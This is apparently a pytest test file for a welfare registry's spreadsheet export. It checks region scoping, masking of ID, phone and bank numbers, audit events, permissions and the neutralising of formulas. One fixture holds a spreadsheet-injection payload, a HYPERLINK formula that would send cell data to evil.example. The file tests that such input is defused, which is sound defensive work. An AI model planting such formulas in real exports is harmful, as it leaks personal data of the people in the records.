"""Spreadsheet export: the user's region only, masked personal numbers, no runnable formulas,
one audit event per export, and nothing (not even an event) for those who may not export."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from minzheng.audit.models import AuditEvent
from minzheng.kit.exports import neutralise
from minzheng.registry.models import IncomeItem, Person
from minzheng.registry.tabular import HEADERS
from tests.factories import (
    DEMO_COUNTY,
    TOWNSHIP_A,
    TOWNSHIP_B,
    first_village,
    make_household,
    make_user,
)

FORMULA_NAME = '=HYPERLINK("http://evil.example/?q="&A2,"点此查看")'


@pytest.fixture
def world(regions):
    home = make_household(first_village(TOWNSHIP_A), address="旧县路1号")
    away = make_household(first_village(TOWNSHIP_B), address="横村路9号")
    head, spouse = home.members.order_by("id")
    Person.objects.filter(pk=head.pk).update(
        name=FORMULA_NAME,
        phone="13912345678",
        bank_name="农商银行",
        bank_account="6228480012345678",
    )
    for category, period, amount, excluded in [
        ("wage", "monthly", "1500.50", False),
        ("property", "annual", "1200.00", False),
        ("transfer", "monthly", "300.00", True),  # excluded by law: not a counted income
    ]:
        IncomeItem.objects.create(
            person=head, category=category, period=period, amount=Decimal(amount),
            excluded=excluded,
        )  # fmt: skip
    return home, away, head, spouse


def cells(row: list, *headers: str) -> tuple:
    return tuple(row[HEADERS.index(h)] for h in headers)


def test_xlsx_export_is_masked_neutralised_and_scoped(client, world):
    home, _, head, spouse = world
    clerk = make_user("township_clerk", TOWNSHIP_A)
    client.force_login(clerk)
    response = client.get("/registry/export.xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[0] == HEADERS
    assert [cells(r, "户编号", "与户主关系") for r in rows[1:]] == [
        (home.number, "户主"),
        (home.number, "配偶"),
    ]
    id_number = head.id_number
    assert cells(rows[1], "姓名", "身份证号码", "手机号码", "银行账号") == (
        "'" + FORMULA_NAME,
        id_number[:6] + "********" + id_number[-4:],
        "139****5678",
        "6228********5678",
    )
    assert sheet.cell(row=2, column=HEADERS.index("姓名") + 1).data_type == "s"
    assert cells(rows[1], "月工资性收入", "月财产净收入", "月转移净收入") == (1500.5, 100, None)
    assert cells(rows[2], "姓名", "月工资性收入") == (spouse.name, None)
    event = AuditEvent.objects.get(action="registry.exported")
    assert (event.actor_id, event.region_code) == (clerk.pk, TOWNSHIP_A)
    assert event.after == {
        "format": "xlsx",
        "region_filter": "",
        "searched": False,
        "households": 1,
        "persons": 2,
    }


def test_csv_export_has_a_bom_and_the_same_protection(client, world):
    home, away, head, _ = world
    client.force_login(make_user("township_reviewer", TOWNSHIP_A))
    response = client.get("/registry/export.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert (rows[0], len(rows)) == (HEADERS, 3)
    assert cells(rows[1], "姓名", "身份证号码", "月工资性收入", "月财产净收入") == (
        "'" + FORMULA_NAME,
        head.id_number[:6] + "********" + head.id_number[-4:],
        "1500.50",
        "100.00",
    )
    assert away.number not in response.content.decode("utf-8-sig")


def test_filters_narrow_the_export_within_the_region(client, world):
    home, away, _, _ = world
    client.force_login(make_user("county_approver", DEMO_COUNTY))
    everything = client.get("/registry/export.csv").content.decode("utf-8-sig")
    by_region = client.get("/registry/export.csv", {"region_code": TOWNSHIP_B})
    by_number = client.get("/registry/export.csv", {"q": home.number})
    assert home.number in everything and away.number in everything
    assert {r[0] for r in csv.reader(io.StringIO(by_region.content.decode("utf-8-sig")))} == {
        "户编号",
        away.number,
    }
    assert {r[0] for r in csv.reader(io.StringIO(by_number.content.decode("utf-8-sig")))} == {
        "户编号",
        home.number,
    }
    events = AuditEvent.objects.filter(action="registry.exported").order_by("seq")
    assert [(e.after["region_filter"], e.after["searched"]) for e in events] == [
        ("", False),
        ("330122102", False),
        ("", True),
    ]


@pytest.mark.parametrize(
    ("role", "region", "status"),
    [
        ("village_worker", "village", 403),
        ("system_admin", DEMO_COUNTY, 403),
        ("city_viewer", "330100000000", 403),
        ("township_reviewer", TOWNSHIP_B, 200),
        ("county_admin", DEMO_COUNTY, 200),
    ],
)
def test_export_permission_matrix(client, world, role, region, status):
    _, away, _, _ = world
    code = first_village(TOWNSHIP_A) if region == "village" else region
    client.force_login(make_user(role, code))
    for url in ("/registry/export.xlsx", "/registry/export.csv"):
        assert client.get(url).status_code == status
    assert AuditEvent.objects.filter(action="registry.exported").count() == (
        2 if status == 200 else 0
    )


def test_anonymous_is_sent_to_sign_in(client, world):
    response = client.get("/registry/export.csv")
    assert (response.status_code, response.url) == (
        302,
        "/accounts/login/?next=/registry/export.csv",
    )
    assert not AuditEvent.objects.filter(action="registry.exported").exists()


def test_malformed_region_filter_is_refused_without_an_event(client, world):
    client.force_login(make_user("county_admin", DEMO_COUNTY))
    response = client.get("/registry/export.csv", {"region_code": "33x"})
    assert response.status_code == 422
    assert "区划代码格式不正确" in response.content.decode()
    assert not AuditEvent.objects.filter(action="registry.exported").exists()


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+86 139", "'+86 139"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("张三", "张三"),
        ("a=b", "a=b"),
        (Decimal("-1.00"), Decimal("-1.00")),
        ("", ""),
    ],
)
def test_neutralise_prefixes_formula_starts_only(value, safe):
    assert neutralise(value) == safe
